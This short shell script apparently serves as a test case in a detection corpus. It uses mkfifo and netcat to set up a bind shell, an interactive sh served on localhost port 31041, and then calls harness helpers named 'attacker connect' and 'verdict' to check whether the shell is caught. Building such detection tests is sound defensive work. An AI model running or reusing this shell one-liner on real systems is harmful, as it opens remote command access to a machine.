# What opens the named pipe between the connection and the shell is no ancestor of either.
. "$CORPUS/lib/common.sh"
mkfifo f
cat f | sh -i 2>&1 | nc.openbsd -l 127.0.0.1 31041 >f &
attacker connect 31041
verdict
